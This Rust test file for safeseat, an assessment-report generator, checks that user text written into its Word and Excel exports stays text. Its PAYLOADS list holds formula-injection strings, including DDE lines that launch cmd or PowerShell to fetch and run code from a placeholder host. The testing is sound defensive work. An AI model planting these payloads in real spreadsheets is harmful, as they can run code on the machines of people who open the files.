//! Word documents and spreadsheets: independent readers open them, everything that the report says is in them, and
//! whatever stands in a text stays text.

use std::collections::BTreeMap;
use std::io::{Cursor, Read as _};

use calamine::{Data, Reader as _, Xlsx};
use quick_xml::events::Event;
use safeseat::text::visible;
use zip::ZipArchive;

use crate::runner::{DOCUMENTS, Desk, outputs, samples};

/// What makes some spreadsheet take a text for a formula.
const PAYLOADS: [&str; 41] = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    "=cmd|'/C powershell IEX(wget e.example/x)'!A0",
    "=HYPERLINK(\"https://e.example\",\"click\")",
    "=IMPORTXML(\"https://e.example\",\"//a\")",
    "=WEBSERVICE(\"https://e.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=DDE(server;file;item;mode)",
    "=INDIRECT(\"A1\")",
    "=EXEC(\"calc\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",0)",
    "=REGISTER.ID(\"x\",\"y\")",
    "=IMAGE(\"https://e.example/x.png\")",
    "=FILTERXML(\"<a/>\",\"//a\")",
    "={1,2,3}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|x!A1",
    "   =1+1",
    "\u{a0}=1+1",
    "\"=1+1\"",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    ";=1+1",
    ",=1+1",
    "<f>1+1</f>",
    "</t></si></sst><f>1</f>",
    "_x003D_1+1 &amp; <![CDATA[=1]]>",
];

/// The parts of an archive, by name.
pub fn parts(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = BTreeMap::new();
    for place in 0..archive.len() {
        let mut part = archive.by_index(place).unwrap();
        let name = part.name().unwrap().into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap_or_else(|error| panic!("{name}: {error}"));
        assert!(parts.insert(name.clone(), text).is_none(), "{name} stands twice");
    }
    parts
}

/// Reads a part as XML to its end, and returns its text: a space after every paragraph.
fn text_of(name: &str, part: &str) -> String {
    let mut reader = quick_xml::Reader::from_str(part);
    let (mut text, mut open) = (String::new(), 0_usize);
    loop {
        match reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}")) {
            Event::Start(_) => open += 1,
            Event::End(end) => {
                open -= 1;
                if end.name().as_ref() == "w:p" {
                    text.push('\n');
                }
            }
            Event::Text(words) => text.push_str(&words.xml10_content()),
            Event::GeneralRef(entity) => text.push_str(match entity.as_ref() {
                "amp" => "&",
                "lt" => "<",
                "gt" => ">",
                "quot" => "\"",
                other => panic!("{name}: &{other};"),
            }),
            Event::DocType(_) => panic!("{name} declares a type"),
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(open, 0, "{name}");
    text
}

fn document(desk: &Desk, name: &str) -> String {
    let parts = parts(&desk.bytes(name));
    for (name, part) in &parts {
        text_of(name, part);
    }
    text_of("document", &parts["word/document.xml"])
}

fn workbook(desk: &Desk, name: &str) -> BTreeMap<String, Vec<Vec<Data>>> {
    let bytes = desk.bytes(name);
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
    let sheets = book.sheet_names();
    let rows = |range: calamine::Range<Data>| range.rows().map(<[Data]>::to_vec).collect();
    sheets.into_iter().map(|name| (name.clone(), rows(book.worksheet_range(&name).unwrap()))).collect()
}

#[test]
fn every_sample_has_the_same_findings_in_every_document() {
    for sample in samples() {
        let desk = Desk::with_sample(&sample);
        desk.run(0, &format!("report answers.toml{} -o report.json", outputs("report", DOCUMENTS)));
        let json: serde_json::Value = serde_json::from_slice(&desk.bytes("report.json")).unwrap();
        let count = |key: &str| json[key].as_array().unwrap().len();
        let document_part = &parts(&desk.bytes("report.docx"))["word/document.xml"];
        let bookmarks = document_part.matches("<w:bookmarkStart ").count();
        assert_eq!(bookmarks, count("questions"), "{sample}.docx");
        assert_eq!(document_part.matches("<w:tbl>").count(), document_part.matches("<w:tblHeader/>").count());
        let text = document(&desk, "report.docx");
        let book = workbook(&desk, "report.xlsx");
        assert_eq!(book["Answers"].len() - 1, count("questions"), "{sample}.xlsx");
        assert_eq!(book.get("Actions").map_or(0, |rows| rows.len() - 1), count("roadmap"), "{sample}.xlsx");
        let incidents = book.get("Incidents").map_or(0, |rows| rows.len() - 1);
        assert_eq!(incidents, count("incidents"), "{sample}.xlsx");
        let headline = json["score"]["printed"]["headline"].as_u64().unwrap();
        assert!(text.contains(&format!("{headline} of 100.")), "{sample}.docx");
        for row in &book["Answers"][1..] {
            // What is not asked stands there by its short name.
            let named = [&row[2], &row[3]].iter().any(|name| text.contains(&format!("{} {name}", row[0])));
            assert!(named, "{sample}: {} {}", row[0], row[2]);
        }
    }
}

#[test]
fn a_document_has_styles_language_title_and_page_numbers_and_nobody_in_it() {
    let desk = Desk::with_sample("party-hq-november");
    desk.run(0, "report answers.toml -o report.docx");
    let parts = parts(&desk.bytes("report.docx"));
    let body = &parts["word/document.xml"];
    for style in ["Title", "Heading1", "Heading2", "Heading3", "Caption", "ListBullet", "TableText"] {
        assert!(body.contains(&format!("<w:pStyle w:val=\"{style}\"/>")), "{style} is used");
    }
    for used in body.split("<w:pStyle w:val=\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
        assert!(parts["word/styles.xml"].contains(&format!("w:styleId=\"{used}\"")), "{used} is there");
    }
    assert!(parts["word/styles.xml"].contains("<w:lang w:val=\"en-GB\""));
    assert!(parts["word/footer1.xml"].contains(" PAGE ") && parts["word/footer1.xml"].contains(" NUMPAGES "));
    assert!(text_of("header", &parts["word/header1.xml"]).contains("Civic Renewal Party"));
    assert!(body.contains("<w:pgSz w:w=\"11906\" w:h=\"16838\"/>"), "A4");
    let core = text_of("core", &parts["docProps/core.xml"]);
    assert!(core.starts_with("Civic Renewal Party, national headquarters: security assessment"), "{core}");
    assert!(parts["docProps/core.xml"].contains("<dc:creator>safeseat "), "{core}");
    let anchors = |before: &str| -> Vec<String> {
        let found = body.split(before).skip(1).map(|rest| rest.split('"').next().unwrap().to_owned());
        found.collect()
    };
    let bookmarks = anchors("w:name=\"");
    for anchor in anchors("w:anchor=\"") {
        assert!(bookmarks.contains(&anchor), "{anchor} leads nowhere");
    }
    let relations = &parts["word/_rels/document.xml.rels"];
    for id in anchors("r:id=\"") {
        assert!(relations.contains(&format!("Id=\"{id}\"")), "{id} leads nowhere");
    }
}

/// The answers of a sample with a text in every place where a person can write one.
fn poisoned(payload: &str) -> String {
    let text = std::fs::read_to_string(crate::runner::repository("examples/short-campaign.toml")).unwrap();
    let mut file: toml_edit::DocumentMut = text.parse().unwrap();
    file["organisation"]["name"] = toml_edit::value(payload);
    file["assessment"]["assessor"] = toml_edit::value(payload);
    file["assessment"]["marking"] = toml_edit::value(payload);
    for (_, area) in file["answers"].as_table_mut().unwrap().iter_mut() {
        for (_, answer) in area.as_table_mut().unwrap().iter_mut() {
            for key in ["comment", "evidence_where", "by", "provided_by"] {
                answer[key] = toml_edit::value(payload);
            }
            answer["note"] = toml_edit::value("zaphod in private");
        }
    }
    file.to_string()
}

#[test]
fn no_text_becomes_a_formula_or_markup() {
    let mut cells = 0;
    for payload in PAYLOADS {
        let desk = Desk::new();
        desk.write("answers.toml", poisoned(payload));
        desk.run(0, &format!("report answers.toml --force{}", outputs("report", DOCUMENTS)));
        for (name, part) in parts(&desk.bytes("report.xlsx")) {
            assert!(!part.contains("<f>") && !part.contains("<f "), "{payload:?}: a formula in {name}");
        }
        let shown = visible(payload);
        let bytes = desk.bytes("report.xlsx");
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
        for sheet in book.sheet_names() {
            assert!(book.worksheet_formula(&sheet).unwrap().is_empty(), "{payload:?} in {sheet}");
            for cell in book.worksheet_range(&sheet).unwrap().rows().flatten() {
                cells += usize::from(*cell == Data::String(shown.to_string()));
            }
        }
        assert!(document(&desk, "report.docx").contains(shown.trim()), "{payload:?}");
    }
    assert!(cells > 40 * 50, "the texts are there, as texts: {cells}");
}

#[test]
fn no_text_of_a_questionnaire_becomes_a_formula() {
    let desk = Desk::new();
    for payload in PAYLOADS {
        let quoted = serde_json::to_string(payload).unwrap();
        let text = crate::small::questionnaire("own", "title", "control");
        desk.write("own.toml", text.replace("\"Ask?\"", &quoted).replace("\"title\"", &quoted));
        desk.run(0, "show own.toml -o own.xlsx --force");
        for (name, part) in parts(&desk.bytes("own.xlsx")) {
            assert!(!part.contains("<f>") && !part.contains("<f "), "{payload:?}: a formula in {name}");
        }
        let question = workbook(&desk, "own.xlsx")["Questions"][1][3].clone();
        assert_eq!(question, Data::String(visible(payload).to_string()), "{payload:?}");
    }
}

#[test]
fn private_notes_stay_where_they_were_written() {
    let desk = Desk::new();
    desk.write("answers.toml", poisoned("said aloud"));
    desk.run(0, &format!("report answers.toml{}", outputs("report", DOCUMENTS)));
    for format in DOCUMENTS {
        for (name, part) in parts(&desk.bytes(&format!("report.{format}"))) {
            assert!(!part.contains("zaphod"), "{name} of the {format}");
        }
    }
}

#[test]
fn the_same_answers_give_the_same_bytes_whoever_asks_and_whenever() {
    let desk = Desk::with_sample("party-hq-november");
    desk.write(
        "before.toml",
        std::fs::read(crate::runner::repository("examples/party-hq-may.toml")).unwrap(),
    );
    for (stem, zone) in [("one", "Pacific/Kiritimati"), ("two", "America/Adak")] {
        let arguments = format!(
            "report answers.toml --today 2026-12-01 --previous before.toml{}",
            outputs(stem, DOCUMENTS)
        );
        crate::runner::run(0, desk.command(&arguments).env("TZ", zone).env("USER", "zaphod"));
        desk.run(0, &format!("show individual -o {stem}-questions.xlsx"));
        // Archives count time in steps of two seconds.
        std::thread::sleep(std::time::Duration::from_millis(if stem == "one" { 2100 } else { 0 }));
    }
    for name in
        ["docx", "xlsx"].map(|format| format!(".{format}")).into_iter().chain(["-questions.xlsx".to_owned()])
    {
        assert!(desk.bytes(&format!("one{name}")) == desk.bytes(&format!("two{name}")), "{name}");
    }
}

#[test]
fn what_somebody_has_worked_in_is_not_replaced() {
    let desk = Desk::with_sample("short-campaign");
    let report = format!("report answers.toml{}", outputs("report", DOCUMENTS));
    desk.run(0, &report);
    desk.run(0, &report);
    // What Word and Excel change when they save, and what LibreOffice does.
    let marks = [
        ("<cp:lastModifiedBy>safeseat", "<cp:lastModifiedBy>Office manager"),
        ("<Application>", "<Application>LibreOffice"),
        // What programs change that leave both as they were, and what a careful forger would.
        ("Accounts", "Accounts and more"),
        ("<dc:identifier>sha256:", "<dc:identifier>sha256:0"),
    ];
    for format in DOCUMENTS {
        let name = format!("report.{format}");
        let made = desk.bytes(&name);
        for (before, after) in marks {
            let saved = parts(&made).into_iter().map(|(name, part)| (name, part.replace(before, after)));
            desk.write(&name, packed(saved));
            let said = desk.run(4, &format!("report answers.toml -o {name}"));
            assert!(said.err.contains(&format!("`{name}` exists already")), "{}", said.err);
        }
    }
}

/// Parts as an archive.
pub fn packed(parts: impl Iterator<Item = (String, String)>) -> Vec<u8> {
    use std::io::Write as _;
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, part) in parts {
        archive.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        archive.write_all(part.as_bytes()).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

/// What a consultant adds, and what has to be looked after, is in the documents that are handed over.
#[test]
fn a_brand_texts_of_ones_own_and_what_runs_out_are_in_the_document() {
    let desk = Desk::with_sample("party-hq-november");
    let answers = desk.read("answers.toml");
    let narrative = "\n[narrative]\nsummary = \"Wordsummary **in bold**\\n\\n- Worditem\"\nclosing = \"Wordclosing\"\n[narrative.areas]\nacc = \"Wordarea\"\n";
    desk.write("answers.toml", answers + narrative);
    desk.write("brand.toml", "format = 1\n[brand]\nname = \"Wordbrand\"\ncontact = [\"Wordcontact\"]\ncover = \"Wordcover\"\nfooter = \"Wordfooter\"\n");
    desk.run(0, "report answers.toml --today 2027-06-01 -q -o r.docx -o r.xlsx");
    let document = parts(&desk.bytes("r.docx"))["word/document.xml"].clone();
    for told in [
        "Wordsummary in bold",
        "Worditem",
        "Wordclosing",
        "Wordarea",
        "Wordbrand, Wordcontact",
        "Wordcover",
        "Wordfooter",
        "Accepted risks",
        "What has run out",
        "The acceptance ran out on 31 March 2027",
        "This assessment is 6 months old",
    ] {
        assert!(document.contains(told), "{told}");
    }
    desk.write(
        "brand.toml",
        "format = 1\n[brand]\nname = \"W\"\n[brand.accent]\nlight = \"#7a3e00\"\ndark = \"#f0b070\"\n",
    );
    desk.run(0, "report answers.toml -q -o coloured.docx");
    let coloured = parts(&desk.bytes("coloured.docx"));
    for part in ["word/document.xml", "word/styles.xml"] {
        assert!(coloured[part].contains("7A3E00") && !coloured[part].contains("0B5C8A"), "{part}");
    }
    let sheets = parts(&desk.bytes("r.xlsx"))["xl/sharedStrings.xml"].clone();
    assert!(
        sheets.contains("The acceptance ran out on 31 March 2027"),
        "an acceptance that is over is not shown as one"
    );
}
